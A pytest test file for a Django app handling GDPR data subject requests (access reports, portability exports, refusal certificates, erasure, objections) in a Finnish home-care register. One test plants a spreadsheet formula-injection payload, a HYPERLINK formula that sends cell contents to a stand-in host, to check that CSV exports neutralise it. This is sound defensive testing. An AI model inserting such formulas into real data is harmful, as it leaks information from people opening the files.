"""What the client receives in answer to a request, end to end through the services: the access
report, the portability zip, the access-log report, the refusal certificate, erasure, objection
and withdrawal, and the Art 19 notifications after a rectification. Every file handed out is a
disclosure in the disclosure log and an access-log entry."""

import csv
import datetime
import io
import json
import uuid
import zipfile

import jsonschema
import pytest
from auditlog.models import LogEntry
from django.contrib.contenttypes.models import ContentType
from django.core.exceptions import ValidationError
from django.utils import timezone
from pypdf import PdfReader

from clients import services as client_services
from clients.constants import AccessKind, RecipientKind, ServiceTask
from clients.models import AccessEntry, Disclosure, ServiceEntry, SupervisoryAuthority
from clients.services import file as file_services
from consents import services as consent_services
from consents.constants import ConsentMethod, GivenBy, ProhibitionKind
from consents.models import Consent, ConsentPurpose, EmailSubscriber, Prohibition
from requests import outputs, services
from requests.constants import Outcome, RequesterRole, RequestType
from requests.models import Art19Notification
from tests.conftest import make_client, make_controller, make_register
from tests.fixtures import at

TODAY = datetime.date(2026, 11, 21)
PLAN = {
    "client_view": "Haluan pärjätä kotona.", "service_and_need": "Kotihoito kahdesti viikossa.",
    "goals": "Arjen sujuminen.", "working_methods": "Ohjaus ja tuki.", "other_services": "Ateriapalvelu",
    "guardian_contact": "", "duty_to_notify_reviewed": True, "confidentiality_reviewed": True,
    "liability_insurance_reviewed": True, "review_on": datetime.date(2027, 6, 1),
    "made_on": datetime.date(2026, 1, 15), "place": "Tampere", "client_signatory": "Matti Mäkinen",
}


@pytest.fixture
def described_register(register):
    """The register's own description: what the report states about purposes, sources, retention."""
    register.purpose = "Kotihoitopalvelujen tuottaminen ja asiakassuhteen hoitaminen."
    register.legal_bases = ["6.1.c", "9.2.h"]
    register.sources = "Asiakkaalta itseltään ja hyvinvointialueen palvelupäätöksistä."
    register.recipients = "Tietoja luovutetaan hyvinvointialueelle kuukausikoosteina."
    register.retention = "Asiakasasiakirjat säilytetään lain 703/2023 liitteen mukaisesti."
    register.save()
    return register


def pdf_text(content: bytes) -> str:
    """The PDF's text with every run of whitespace (line wraps in table cells) as one space."""
    reader = PdfReader(io.BytesIO(content))
    return " ".join(" ".join(page.extract_text() for page in reader.pages).split())


def register_request(actor, person, *, type=RequestType.ACCESS, received_on=TODAY, **extra):
    # The documents follow the client's language: these clients read English, as the tests do.
    person.preferred_language = "en"
    person.__class__.objects.filter(pk=person.pk).update(preferred_language="en")
    extra.setdefault("channel", "signed_letter")
    return services.request_register(actor=actor, client=person, type=type, received_on=received_on,
                                     submission_key=uuid.uuid4(), today=TODAY, **extra)


def verified_request(actor, person, **kwargs):
    dsr = register_request(actor, person, **kwargs)
    return services.request_verify_identity(actor=actor, request=dsr, method="photo_id")


def decided_request(actor, person, **kwargs):
    """Verified and granted with no redactions needed: what may be released."""
    dsr = verified_request(actor, person, **kwargs)
    return services.request_decide(actor=actor, request=dsr, outcome=Outcome.GRANTED, decision="Annettu",
                                   no_redactions_needed=True)


def exports(client) -> list[AccessEntry]:
    return list(AccessEntry.objects.filter(client=client, kind=AccessKind.EXPORT))


def full_client_file(actor, person, purposes):
    """A client with something in every section of the report."""
    client_services.representative_save(
        actor=actor, client=person, today=TODAY,
        role="next_of_kin", first_names="Tytär", last_name="Mäkinen-Laakso", relationship="tytär",
        valid_from=datetime.date(2024, 1, 1))
    case = file_services.case_open(actor=actor, client=person, service_task=ServiceTask.OLDER_PEOPLE,
                                   title="Kotihoito 2026", opened_on=datetime.date(2026, 1, 2))
    file_services.granted_service_add(actor=actor, case=case,
        content="Kotihoidon käynnit", valid_from=datetime.date(2026, 1, 2))
    file_services.plan_version_create(actor=actor, client=person, **PLAN)
    file_services.entry_record(actor=actor, client=person,
        date=datetime.date(2026, 11, 2), duration_minutes=45, content="Kotikäynti: kauppa-asiointi.")
    consent_services.consent_give(actor=actor, client=person, purpose=purposes["newsletter"],
                                  given_by=GivenBy.CLIENT, method=ConsentMethod.ORAL,
                                  given_at=at(datetime.date(2026, 2, 1)))
    consent_services.prohibition_add(actor=actor, client=person, kind=ProhibitionKind.MARKET_RESEARCH,
                                     given_at=at(datetime.date(2026, 3, 1)))
    client_services.disclosure_record(actor=actor, client=person, recipient_kind=RecipientKind.AUTHORITY,
                                      recipient_name="Kela", content="Päätös kuljetustuesta",
                                      legal_basis="Laki 703/2023")
    client_services.disclosure_record(actor=actor, client=person, recipient_kind=RecipientKind.AUTHORITY,
                                      recipient_name="Pirkanmaan hyvinvointialue", direction="in",
                                      content="Palvelupäätös kotihoidosta")


# Access report ----------------------------------------------------------------------------------

def test_access_report_contains_every_section_and_is_one_disclosure_and_one_access_entry(
    db, contact, caseworker, client_a, described_register, purposes,
):
    """Seed 000: "Rekisteröidyllä on oikeus tarkistaa, mitä tietoja hänestä on rekisterissä."
    Seed 002: the report states purposes, recipients, sources, retention and the rights."""
    full_client_file(caseworker, client_a, purposes)
    dsr = decided_request(contact, client_a)
    disclosures_before = Disclosure.objects.filter(client=client_a).count()

    text = pdf_text(outputs.access_report_pdf(actor=contact, request=dsr))

    for heading in ("Access report", "Basic data", "Guardians, representatives and next of kin",
                    "Cases and granted services", "Service plans", "Service entries", "Documents",
                    "Consents", "Prohibitions", "Purposes and legal bases of processing",
                    "Recipients of the data", "Sources of the data", "Retention",
                    "Your rights and how to complain"):
        assert heading in text, heading
    for fact in (client_a.identity_code, "Mäkinen-Laakso", "Kotihoito 2026", "Arjen sujuminen.",
                 "Kotikäynti: kauppa-asiointi.", "Uutiskirje", "Market and opinion research",
                 "Kotihoitopalvelujen tuottaminen", "GDPR Art 9(2)(h)", "Kela", "Päätös kuljetustuesta",
                 "Pirkanmaan hyvinvointialue", "Asiakkaalta itseltään", "lain 703/2023 liitteen mukaisesti",
                 "Tietosuojavaltuutetun toimisto"):
        assert fact in text, fact

    handed_out = Disclosure.objects.filter(client=client_a).exclude(recipient_name__in=[
        "Kela", "Pirkanmaan hyvinvointialue"])
    assert Disclosure.objects.filter(client=client_a).count() == disclosures_before + 1
    disclosure = handed_out.get()
    assert disclosure.recipient_kind == RecipientKind.CLIENT
    assert disclosure.legal_basis == "EU:n tietosuoja-asetus 15 artikla"
    assert disclosure.content.startswith("Tarkastusraportti")
    assert disclosure.recorded_by == contact
    assert len(exports(client_a)) == 1 and exports(client_a)[0].user == contact


def test_redaction_removes_every_occurrence_and_lists_only_the_reason(db, contact, caseworker, client_a):
    """Seed 003: "Rekisterin ulkopuolisella henkilöllä ei ole tarkastusoikeutta, vaikka häntä
    koskevia tietoja voi olla tallennettuna asiakasta koskeviin tietoihin." The reporter of a
    concern is a third party: the handler removes them before release and records why."""
    file_services.entry_record(actor=caseworker, client=client_a,
        date=datetime.date(2026, 10, 1), duration_minutes=10,
        content="Naapuri Liisa Laine soitti huolestuneena. LIISA LAINE pyysi, ettei nimeä kerrota.")
    dsr = verified_request(contact, client_a)
    services.request_decide(
        actor=contact, request=dsr, outcome=Outcome.PARTIALLY_REFUSED, decision="Tiedot annetaan.",
        refusal_reasons="Ilmoittajan henkilöllisyys on salassa pidettävä.",
        redactions="Liisa Laine | Huoli-ilmoituksen tekijän henkilöllisyys (sivullinen)")

    text = pdf_text(outputs.access_report_pdf(actor=contact, request=dsr))

    assert "liisa laine" not in text.lower()
    assert text.count("[redacted]") >= 2
    assert "soitti huolestuneena" in text
    assert "Information removed before release" in text
    assert "Huoli-ilmoituksen tekijän henkilöllisyys (sivullinen)" in text
    dsr.refresh_from_db()
    assert "Liisa Laine" in dsr.redactions  # the record of what was removed stays with the request


def test_unverified_request_cannot_produce_a_report_and_says_why(db, contact, client_a):
    """Seed 001: "Ennen tietojen luovutusta asiakkaan henkilöllisyys tarkastetaan kuvallisesta
    henkilöllisyystodistuksesta" """
    dsr = register_request(contact, client_a)
    for produce in (outputs.access_report_pdf, outputs.portability_zip):
        with pytest.raises(ValidationError) as err:
            produce(actor=contact, request=dsr)
        assert "Verify the requester's identity" in " ".join(err.value.messages)
    assert not Disclosure.objects.filter(client=client_a).exists()
    assert not exports(client_a)


def test_a_report_is_made_only_for_its_own_request_type(db, contact, client_a):
    dsr = verified_request(contact, client_a, type=RequestType.ERASURE)
    with pytest.raises(ValidationError) as err:
        outputs.access_report_pdf(actor=contact, request=dsr)
    assert "Access (GDPR Art 15)" in str(err.value)


# Portability ------------------------------------------------------------------------------------

def _schema_fields_without_description(node, path="$"):
    missing = []
    for name, child in node.get("properties", {}).items():
        if not child.get("description"):
            missing.append(f"{path}.{name}")
        missing += _schema_fields_without_description(child, f"{path}.{name}")
    if "items" in node:
        missing += _schema_fields_without_description(node["items"], f"{path}[]")
    return missing


def test_the_portability_schema_documents_every_field():
    schema = json.loads(outputs.SCHEMA_PATH.read_text(encoding="utf-8"))
    jsonschema.Draft202012Validator.check_schema(schema)
    assert schema["description"]
    assert _schema_fields_without_description(schema) == []


def test_portability_zip_validates_against_its_schema_and_neutralises_formulas(
    db, contact, caseworker, client_a, described_register, purposes,
):
    """Seed 000: "Oikeus siirtää tiedot järjestelmästä toiseen – Siirtopyynnön voi osoittaa
    rekisterin yhteyshenkilölle." Seed 002: "Asiakas voi pyytää tietojensa siirtämistä
    järjestelmästä toiseen." """
    full_client_file(caseworker, client_a, purposes)
    payload = '=HYPERLINK("http://example.invalid/?x="&A1;"klikkaa")'
    file_services.entry_record(actor=caseworker, client=client_a,
        date=datetime.date(2026, 11, 3), duration_minutes=5, content=payload)
    client_services.representative_save(
        actor=caseworker, client=client_a, today=TODAY,
        role="next_of_kin", first_names="Pekka", last_name="@SUM(1+1)", valid_from=datetime.date(2024, 1, 1))
    dsr = decided_request(contact, client_a, type=RequestType.PORTABILITY)

    archive = zipfile.ZipFile(io.BytesIO(outputs.portability_zip(actor=contact, request=dsr)))

    assert set(archive.namelist()) == {"README.txt", "data.json", "data.schema.json", "client.csv",
                                       "representatives.csv", "entries.csv", "plans.csv", "consents.csv"}
    data = json.loads(archive.read("data.json"))
    schema = json.loads(outputs.SCHEMA_PATH.read_text(encoding="utf-8"))
    jsonschema.Draft202012Validator(schema, format_checker=jsonschema.FormatChecker()).validate(data)
    assert json.loads(archive.read("data.schema.json")) == schema
    assert data["client"]["identity_code"] == client_a.identity_code
    assert payload in [entry["content"] for entry in data["entries"]]  # JSON keeps the text as it is

    raw = archive.read("entries.csv")
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert "'" + payload in [row["content"] for row in rows]
    assert payload not in [row["content"] for row in rows]
    reps = list(csv.DictReader(io.StringIO(archive.read("representatives.csv").decode("utf-8-sig")),
                               delimiter=";"))
    assert "'@SUM(1+1)" in [row["last_name"] for row in reps]
    consents_csv = archive.read("consents.csv").decode("utf-8-sig")
    assert "newsletter" in consents_csv
    assert "data.schema.json" in archive.read("README.txt").decode()

    disclosure = Disclosure.objects.get(client=client_a, content__startswith="Siirrettävät tiedot")
    assert disclosure.recipient_kind == RecipientKind.CLIENT
    assert disclosure.legal_basis == "EU:n tietosuoja-asetus 20 artikla"
    assert len(exports(client_a)) == 1


def test_portability_export_is_redacted_too(db, contact, caseworker, client_a):
    file_services.entry_record(actor=caseworker, client=client_a,
        date=datetime.date(2026, 10, 1), duration_minutes=10, content="Naapuri Liisa Laine soitti.")
    dsr = verified_request(contact, client_a, type=RequestType.PORTABILITY)
    services.request_decide(actor=contact, request=dsr, outcome=Outcome.GRANTED, decision="Annettu",
                            redactions="Liisa Laine | Sivullisen tieto")
    archive = zipfile.ZipFile(io.BytesIO(outputs.portability_zip(actor=contact, request=dsr)))
    for name in archive.namelist():
        assert "Liisa Laine" not in archive.read(name).decode("utf-8-sig"), name
    assert json.loads(archive.read("data.json"))["redaction_reasons"] == ["Sivullisen tieto"]


# Access-log request -----------------------------------------------------------------------------

def test_access_log_pdf_lists_views_and_disclosures_and_is_logged(db, contact, caseworker, client_a):
    """Act 703/2023: the client may ask who has viewed or received their data."""
    client_services.access_record(user=caseworker, client=client_a, kind=AccessKind.CLIENT_FILE)
    client_services.disclosure_record(actor=contact, client=client_a, recipient_kind=RecipientKind.AUTHORITY,
                                      recipient_name="Kela", content="Päätös", legal_basis="Laki 703/2023")
    dsr = decided_request(contact, client_a, type=RequestType.ACCESS_LOG)

    text = pdf_text(outputs.access_log_pdf(actor=contact, request=dsr))

    assert "Who has viewed or received your data" in text
    assert caseworker.get_full_name() in text and "Client file" in text and "Kela" in text
    assert "Tietosuojavaltuutetun toimisto" in text
    handed = Disclosure.objects.get(client=client_a, content__startswith="Käyttö- ja luovutuslokitiedot")
    assert handed.recipient_kind == RecipientKind.CLIENT
    assert len(exports(client_a)) == 1


# Refusal certificate ----------------------------------------------------------------------------

def test_refusal_certificate_states_the_reasons_and_the_authoritys_current_address(db, contact, client_a):
    """Seed 000: "Korjauspyynnön epäämisestä rekisterin vastuuhenkilö antaa kirjallisen todistuksen,
    jossa mainitaan syyt, joiden vuoksi korjauspyyntö on evätty. Asianomainen voi saattaa
    epäämisen tietosuojavaltuutetun ratkaistavaksi." Seed 004: "rekisteröidylle annetaan
    kirjallinen kieltäytymistodistus ja hänellä on oikeus saattaa asia tietosuojavaltuutetun
    ratkaistavaksi" — at the address kept current in the database, not the seeds' old ones."""
    authority = SupervisoryAuthority.objects.first()
    authority.street_address = "Uusi Valvojankatu 7, 00999 Helsinki"
    authority.postal_address = "PL 4242, 00998 Helsinki"
    authority.save()
    dsr = verified_request(contact, client_a, type=RequestType.RECTIFICATION,
                           description="Käyntimerkintä 2.11. on väärä")
    services.request_decide(
        actor=contact, request=dsr, outcome=Outcome.REFUSED, decision="Merkintää ei korjata.",
        refusal_reasons="Merkintä vastaa käynnillä havaittua; asiakkaan näkemys on kirjattu lisäyksenä.")

    text = pdf_text(outputs.refusal_certificate_pdf(actor=contact, request=dsr))

    assert "Refusal certificate" in text
    assert "Merkintä vastaa käynnillä havaittua" in text
    assert "Data Protection Ombudsman" in text
    assert "Uusi Valvojankatu 7, 00999 Helsinki" in text and "PL 4242, 00998 Helsinki" in text
    assert "PL 315" not in text and "Ratapihantie" not in text  # the seeds' old addresses
    handed = Disclosure.objects.get(client=client_a, content__startswith="Kieltäytymistodistus")
    assert handed.recipient_kind == RecipientKind.CLIENT
    assert len(exports(client_a)) == 1


def test_no_certificate_for_a_granted_request(db, contact, client_a):
    dsr = decided_request(contact, client_a)
    with pytest.raises(ValidationError):
        outputs.refusal_certificate_pdf(actor=contact, request=dsr)


def test_guardian_refused_by_the_minors_prohibition_gets_a_certificate_without_the_minors_data(
    db, contact, caseworker, register,
):
    """Seed 003: "Jos alaikäinen asiakas ikäänsä ja kehitystasoonsa nähden kykenee päättämään
    asiakkuudestaan ja tiedon antamatta jättäminen ei vaaranna lapsen (psyykkistä tai fyysistä)
    kasvua ja kehitystä, hänellä on oikeus kieltää asiakkuuttansa koskevien tietojen antaminen
    huoltajalleen tai muulle lailliselle edustajalleen." """
    child = make_client(caseworker, register, first_names="Ella", born=datetime.date(2011, 4, 4), sign="A")
    file_services.entry_record(actor=caseworker, client=child,
        date=datetime.date(2026, 10, 1), duration_minutes=30, content="Luottamuksellinen keskustelu.")
    guardian = client_services.representative_save(
        actor=contact, client=child, today=TODAY,
        role="guardian", first_names="Isä", last_name="Mäkinen", valid_from=child.date_of_birth,
        disclosure_prohibited=True, prohibition_reasoning="Arvioitu tapaamisessa.")
    dsr = verified_request(contact, child, requester_role=RequesterRole.GUARDIAN, representative=guardian)

    with pytest.raises(ValidationError):
        services.request_decide(actor=contact, request=dsr, outcome=Outcome.GRANTED, decision="")
    with pytest.raises(ValidationError):
        outputs.access_report_pdf(actor=contact, request=dsr)
    services.request_decide(actor=contact, request=dsr, outcome=Outcome.REFUSED, decision="Tietoja ei anneta.")

    content = outputs.refusal_certificate_pdf(actor=contact, request=dsr)

    text = pdf_text(content)
    assert content.startswith(b"%PDF") and "Refusal certificate" in text
    assert "has prohibited disclosing their information to this guardian" in text
    assert "Isä Mäkinen" in text
    assert "Luottamuksellinen keskustelu." not in text and child.identity_code not in text
    # The disclosure log refuses anything to this guardian; the export itself is logged.
    assert not Disclosure.objects.filter(client=child).exists()
    assert [entry.detail for entry in exports(child)] == [f"refusal certificate, request {dsr.pk}; no client data"]


# Erasure ----------------------------------------------------------------------------------------

def test_erasure_removes_marketing_consents_and_list_entries_and_refuses_the_rest_with_the_statutory_reason(
    db, contact, caseworker, register, purposes,
):
    """Seed 001: "Asiakkaalla on ”oikeus tulla unohdetuksi” vain, jos henkilötietojen käsittelylle ja
    säilyttämiselle ei ole lakisääteisiä velvoitteita." Seed 002: "Asiakkaalla on oikeus pyytää
    tietojensa poistamista, ellei poistamiselle ole lainsäädännöllistä estettä (EU 2016/679:n 17.
    artikla)." """
    person = make_client(caseworker, register, email="matti.makinen@example.fi")
    kin = client_services.representative_save(
        actor=caseworker, client=person, today=TODAY,
        role="next_of_kin", first_names="Tytär", last_name="Mäkinen", valid_from=datetime.date(2024, 1, 1))
    newsletter = consent_services.consent_give(
        actor=caseworker, client=person, purpose=purposes["newsletter"], given_by=GivenBy.CLIENT,
        method=ConsentMethod.ORAL, given_at=at(datetime.date(2026, 2, 1)))
    kin_consent = consent_services.consent_give(
        actor=caseworker, client=person, purpose=purposes["next_of_kin_disclosure"], given_by=GivenBy.CLIENT,
        method=ConsentMethod.ORAL, given_at=at(datetime.date(2026, 2, 1)), recipient_representative=kin)
    prohibition = consent_services.prohibition_add(actor=caseworker, client=person,
                                                   kind=ProhibitionKind.MARKET_RESEARCH)
    on_list = consent_services.subscriber_add(actor=contact, purpose=purposes["newsletter"],
                                              email="Matti.Makinen@Example.fi")
    someone_else = consent_services.subscriber_add(actor=contact, purpose=purposes["newsletter"],
                                                   email="aino@example.fi")
    other_controller_purpose = ConsentPurpose.objects.create(
        register=make_register(make_controller("Toinen Oy")), code="newsletter", name="Toisen uutiskirje",
        is_marketing=True)
    elsewhere = consent_services.subscriber_add(actor=None, purpose=other_controller_purpose,
                                                email="matti.makinen@example.fi")
    entry = file_services.entry_record(actor=caseworker, client=person,
        date=datetime.date(2026, 11, 2), duration_minutes=45, content="Kotikäynti.")
    dsr = verified_request(contact, person, type=RequestType.ERASURE, description="Poistakaa kaikki tietoni")

    result = services.request_erasure_carry_out(actor=contact, request=dsr)

    assert (result.consents_erased, result.subscribers_erased, result.prohibitions_kept) == (1, 1, 1)
    assert not Consent.objects.filter(pk=newsletter.pk).exists()
    assert not EmailSubscriber.objects.filter(pk=on_list.pk).exists()
    assert Consent.objects.filter(pk=kin_consent.pk).exists()  # not marketing: kept
    assert Prohibition.objects.filter(pk=prohibition.pk).exists()  # protects the client: kept
    assert EmailSubscriber.objects.filter(pk__in=[someone_else.pk, elsewhere.pk]).count() == 2
    person.refresh_from_db()
    entry.refresh_from_db()  # statutory client documents stay
    deletions = LogEntry.objects.filter(action=LogEntry.Action.DELETE, actor=contact)
    assert {(e.content_type, e.object_pk) for e in deletions} == {
        (ContentType.objects.get_for_model(Consent), str(newsletter.pk)),
        (ContentType.objects.get_for_model(EmailSubscriber), str(on_list.pk)),
    }
    assert "17(3)(b)" in result.refusal_reasons and "703/2023" in result.refusal_reasons
    assert "service entries (1)" in result.refusal_reasons

    # The outcome is explicitly partial, with the statutory reason on the certificate.
    services.request_decide(actor=contact, request=dsr, outcome=Outcome.PARTIALLY_REFUSED,
                            decision="Markkinointitiedot poistettu.", refusal_reasons=result.refusal_reasons)
    text = pdf_text(outputs.refusal_certificate_pdf(actor=contact, request=dsr))
    assert "Partially refused" in text and "17(3)(b)" in text


def test_erasure_needs_a_verified_erasure_request(db, contact, client_a):
    with pytest.raises(ValidationError) as err:
        services.request_erasure_carry_out(actor=contact, request=register_request(contact, client_a,
                                                                          type=RequestType.ERASURE))
    assert "Verify the requester's identity" in " ".join(err.value.messages)
    with pytest.raises(ValidationError):
        services.request_erasure_carry_out(actor=contact, request=verified_request(contact, client_a))


def test_erasure_page_confirms_then_erases_and_prefills_a_partial_decision(client, contact, client_a, purposes):
    consent_services.consent_give(actor=contact, client=client_a, purpose=purposes["newsletter"],
                                  given_by=GivenBy.CLIENT, method=ConsentMethod.ORAL,
                                  given_at=at(datetime.date(2026, 2, 1)))
    dsr = verified_request(contact, client_a, type=RequestType.ERASURE)
    client.force_login(contact)
    client.cookies["django_language"] = "en"
    page = client.get(f"/requests/{dsr.pk}/erasure/").content.decode()
    assert "1 consent for marketing" in page and "17(3)(b)" in page
    assert Consent.objects.filter(client=client_a).count() == 1
    response = client.post(f"/requests/{dsr.pk}/erasure/", follow=True)
    assert not Consent.objects.filter(client=client_a).exists()
    html = response.content.decode()
    assert "Erased marketing consents: 1" in html
    assert response.context["forms"]["decide"].initial["outcome"] == Outcome.PARTIALLY_REFUSED


# Restriction, objection and withdrawal ----------------------------------------------------------

def test_a_restricted_client_is_left_out_of_the_marketing_export(db, contact, client_a, purposes):
    """Seed 001: "oikeus käsittelyn rajoittamiseen (esimerkiksi markkinoinnin estäminen)" """
    client_a.email = "matti@example.fi"
    client_a.save()
    consent_services.consent_give(actor=contact, client=client_a, purpose=purposes["newsletter"],
                                  given_by=GivenBy.CLIENT, method=ConsentMethod.ORAL,
                                  given_at=at(datetime.date(2026, 2, 1)))
    assert "matti@example.fi" in consent_services.marketing_export(actor=contact,
                                                                   purpose=purposes["newsletter"]).emails
    dsr = verified_request(contact, client_a, type=RequestType.RESTRICTION)
    services.request_decide(actor=contact, request=dsr, outcome=Outcome.GRANTED, decision="Käsittely rajoitettu")

    result = consent_services.marketing_export(actor=contact, purpose=purposes["newsletter"])

    assert "matti@example.fi" not in result.emails and result.export.client_count == 0


def test_objection_and_withdrawal_from_the_request_page(client, contact, client_a, purposes):
    """Seed 000: "Rekisteröidyllä on oikeus kieltää tietojensa käsittely ja luovuttaminen
    suoramainontaa, etämyyntiä ja suoramarkkinointia sekä markkina- ja mielipidetutkimusta varten"
    Seed 001: "oikeus peruuttaa suostumus (esimerkiksi suostumuksen peruuttaminen markkinointiin)" """
    consent = consent_services.consent_give(actor=contact, client=client_a, purpose=purposes["newsletter"],
                                            given_by=GivenBy.CLIENT, method=ConsentMethod.ORAL,
                                            given_at=at(datetime.date(2026, 2, 1)))
    dsr = verified_request(contact, client_a, type=RequestType.OBJECTION)
    client.force_login(contact)
    client.cookies["django_language"] = "en"
    page = client.get(f"/requests/{dsr.pk}/").content.decode()
    assert "Consents in force" in page and "Uutiskirje" in page
    assert "Record a direct-marketing prohibition" in page

    assert client.post(f"/requests/{dsr.pk}/consents/{consent.pk}/withdraw/").status_code == 302
    assert client.post(f"/requests/{dsr.pk}/prohibit-marketing/").status_code == 302

    consent.refresh_from_db()
    assert consent.withdrawn_by == contact and f"request {dsr.pk}" in consent.withdrawal_note
    assert Prohibition.objects.get(client=client_a, kind=ProhibitionKind.DIRECT_MARKETING).recorded_by == contact
    page = client.get(f"/requests/{dsr.pk}/").content.decode()
    assert "The client has no consents in force." in page
    assert "A direct-marketing prohibition is in force since" in page


def test_withdrawal_needs_a_verified_objection_or_withdrawal_request(db, contact, client_a, purposes):
    consent = consent_services.consent_give(actor=contact, client=client_a, purpose=purposes["newsletter"],
                                            given_by=GivenBy.CLIENT, method=ConsentMethod.ORAL,
                                            given_at=at(datetime.date(2026, 2, 1)))
    unverified = register_request(contact, client_a, type=RequestType.CONSENT_WITHDRAWAL)
    with pytest.raises(ValidationError):
        services.request_consent_withdraw(actor=contact, request=unverified, consent=consent)
    access = verified_request(contact, client_a)
    with pytest.raises(ValidationError):
        services.request_marketing_prohibit(actor=contact, request=access)
    consent.refresh_from_db()
    assert consent.withdrawn_at is None


# Rectification and Art 19 -----------------------------------------------------------------------

def test_rectification_links_to_the_client_file_and_records_each_recipients_notification(
    client, contact, client_a,
):
    """Seed 000: "Virheen korjaamisesta ilmoitetaan sille, jolta virheelliset tiedot on saatu tai
    jolle tiedot on luovutettu." The recipients are those of the corrected item (issue 19)."""
    case = file_services.case_open(actor=contact, client=client_a, service_task=ServiceTask.OLDER_PEOPLE,
                                   title="Kotihoito", opened_on=datetime.date(2026, 1, 2))
    file_services.granted_service_add(actor=contact, case=case, content="Käynnit",
                                      valid_from=datetime.date(2026, 1, 2))
    entry = file_services.entry_record(actor=contact, client=client_a, date=datetime.date(2026, 11, 2),
                                       duration_minutes=45, content="Kotikäynti")
    ServiceEntry.objects.filter(pk=entry.pk).update(created_at=at(datetime.date(2026, 11, 2), 15))
    kela = client_services.disclosure_record(actor=contact, client=client_a, recipient_kind=RecipientKind.AUTHORITY,
                                             recipient_name="Kela", content="Päätös", legal_basis="Laki 703/2023",
                                             when=at(datetime.date(2026, 11, 10)))
    dsr = verified_request(contact, client_a, type=RequestType.RECTIFICATION)
    entry.refresh_from_db()
    file_services.correction_record(actor=contact, entry=entry, field="content", value="Kotikäynti, korjattu",
                                    reason="Oikaisupyyntö")
    client.force_login(contact)
    client.cookies["django_language"] = "en"
    page = client.get(f"/requests/{dsr.pk}/").content.decode()
    assert client_a.get_absolute_url() in page and "Open the client file" in page
    assert "Record the notification" in page

    response = client.post(f"/requests/{dsr.pk}/art19/", {
        "disclosure": kela.pk, "notified_on": "2026-11-21", "method": "Kirje Kelan yhteyspisteeseen"})

    assert response.status_code == 302
    notification = Art19Notification.objects.get(request=dsr)
    assert (notification.disclosure, notification.recipient_name, notification.notified_by) == (kela, "Kela", contact)
    assert "Kirje Kelan yhteyspisteeseen" in client.get(f"/requests/{dsr.pk}/").content.decode()


def test_art19_is_only_for_rectification_erasure_and_restriction(db, contact, client_a):
    dsr = verified_request(contact, client_a)
    with pytest.raises(ValidationError):
        services.art19_notify(actor=contact, request=dsr, disclosure=None, recipient_name="Kela",
                              method="Kirje", notified_on=TODAY)


# Views --------------------------------------------------------------------------------------------

DOWNLOAD_URLS = ("access-report.pdf", "portability.zip", "access-log.pdf", "refusal-certificate.pdf")


def test_caseworker_cannot_download_or_erase(client, caseworker, contact, client_a):
    dsr = verified_request(contact, client_a)
    client.force_login(caseworker)
    assert client.get(f"/requests/{dsr.pk}/").status_code == 200  # sees the request ...
    for url in (*DOWNLOAD_URLS, "erasure/"):
        assert client.post(f"/requests/{dsr.pk}/{url}").status_code == 404, url  # ... but hands nothing out
        assert client.get(f"/requests/{dsr.pk}/{url}").status_code == 404, url
    assert not Disclosure.objects.filter(client=client_a).exists()


def test_other_controllers_contact_gets_404(client, other_contact, contact, client_a):
    dsr = verified_request(contact, client_a)
    client.force_login(other_contact)
    for url in DOWNLOAD_URLS:
        assert client.post(f"/requests/{dsr.pk}/{url}").status_code == 404


def test_register_contact_downloads_the_access_report_by_post(client, contact, client_a):
    dsr = decided_request(contact, client_a)
    client.force_login(contact)
    client.cookies["django_language"] = "en"
    page = client.get(f"/requests/{dsr.pk}/").content.decode()
    assert "Access report (PDF)" in page and "Machine-readable data (zip)" in page
    assert client.get(f"/requests/{dsr.pk}/access-report.pdf").status_code == 405  # a GET discloses nothing

    response = client.post(f"/requests/{dsr.pk}/access-report.pdf")

    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF") and "attachment" in response["Content-Disposition"]
    assert Disclosure.objects.filter(client=client_a, content__startswith="Tarkastusraportti").count() == 1
    zipped = client.post(f"/requests/{dsr.pk}/portability.zip")
    assert zipped["Content-Type"] == "application/zip"
    assert "data.json" in zipfile.ZipFile(io.BytesIO(zipped.content)).namelist()


def test_download_of_an_unverified_request_redirects_with_the_reason(client, contact, client_a):
    dsr = register_request(contact, client_a)
    client.force_login(contact)
    client.cookies["django_language"] = "en"
    page = client.get(f"/requests/{dsr.pk}/").content.decode()
    assert "Verify the requester&#x27;s identity before releasing any data." in page
    response = client.post(f"/requests/{dsr.pk}/access-report.pdf", follow=True)
    assert "Verify the requester&#x27;s identity before releasing any data." in response.content.decode()
    assert not Disclosure.objects.filter(client=client_a).exists()


def test_guardians_request_received_before_the_18th_birthday_and_decided_after_ends_in_a_refusal_certificate(
        client, contact, register):
    """Issue 19: one answer in time. DESIGN.md: "A minor becomes an adult on their 18th birthday:
    guardian rights end then." The representative's authority is judged on the day the data is
    released: the request page, the decision and the PDF agree."""
    from clients.models.client import add_years

    today = timezone.localdate()  # the register's day, as the pages judge it
    born = add_years(today, -18)  # the client turned 18 today
    child = make_client(contact, register, born=born, sign="A" if born.year >= 2000 else "-")
    guardian = client_services.representative_save(
        actor=contact, client=child, today=today - datetime.timedelta(days=30), role="guardian",
        first_names="Äiti", last_name="Mäkinen", valid_from=born)
    dsr = services.request_register(
        actor=contact, client=child, type=RequestType.ACCESS, received_on=today - datetime.timedelta(days=1),
        channel="signed_letter", submission_key=uuid.uuid4(), today=today,
        requester_role=RequesterRole.GUARDIAN, representative=guardian)
    services.request_verify_identity(actor=contact, request=dsr, method="photo_id")

    client.force_login(contact)
    page = client.get(f"/requests/{dsr.pk}/").content.decode()
    assert born.replace(year=born.year + 18).strftime("%d.%m.%Y") in page  # the day guardianship ended
    with pytest.raises(ValidationError):
        services.request_decide(actor=contact, request=dsr, outcome=Outcome.GRANTED, decision="Annetaan")
    with pytest.raises(ValidationError):
        outputs.access_report_pdf(actor=contact, request=dsr)
    services.request_decide(actor=contact, request=dsr, outcome=Outcome.REFUSED, decision="Ei anneta.")
    dsr.refresh_from_db()
    assert dsr.refusal_reasons

    text = pdf_text(outputs.refusal_certificate_pdf(actor=contact, request=dsr))
    assert child.identity_code not in text
    assert not Disclosure.objects.filter(client=child, representative=guardian).exists()
